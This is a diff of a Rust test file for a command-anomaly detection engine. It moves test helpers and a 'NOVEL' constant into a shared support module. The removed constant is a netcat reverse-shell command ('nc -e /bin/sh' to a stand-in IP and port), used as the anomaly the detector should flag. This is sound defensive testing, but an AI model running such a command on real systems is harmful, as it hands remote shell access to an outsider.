@@ -7,29 +7,17 @@ use anomaly_baseline::{
     Access, Day, Engine, Level, Method, RowState, Score, Settings, Sighting, Standing, Teach, Threshold,
     Verdict,
 };
-use anomaly_vectorizer::canonical::Raw;
 use anomaly_vectorizer::context::{ExecutableFlag, InheritedSocket, SocketFamily};
-use anomaly_vectorizer::scrub::Scrubber;
-use anomaly_vectorizer::{Context, Execution, Hashed, Surroundings};
+use anomaly_vectorizer::{Context, Hashed, Surroundings};
 
+#[path = "support/lines.rs"]
+mod lines;
 mod support;
 
+use lines::{NOVEL, execution};
 use support::Memory;
 
 const DAY: i64 = 86_400_000_000;
-
-fn execution(line: &str) -> Execution {
-    let (name, area) = (line.split(' ').next().unwrap_or_default(), line.replace(' ', "\0") + "\0");
-    let raw = Raw {
-        name: name.as_bytes(),
-        parent: b"cron",
-        grandparent: b"systemd",
-        uid: 0,
-        arguments: area.as_bytes(),
-        ..Raw::default()
-    };
-    raw.execution(&Scrubber::default())
-}
 
 /// What a host runs all day.
 const ROUTINE: &[&str] = &[
@@ -42,8 +30,6 @@ const ROUTINE: &[&str] = &[
     "tar -czf /var/backups/etc.tar.gz /etc",
     "find /tmp -mtime +7 -delete",
 ];
-
-const NOVEL: &str = "nc -e /bin/sh 203.0.113.7 4444";
 
 struct Host {
     engine: Engine,
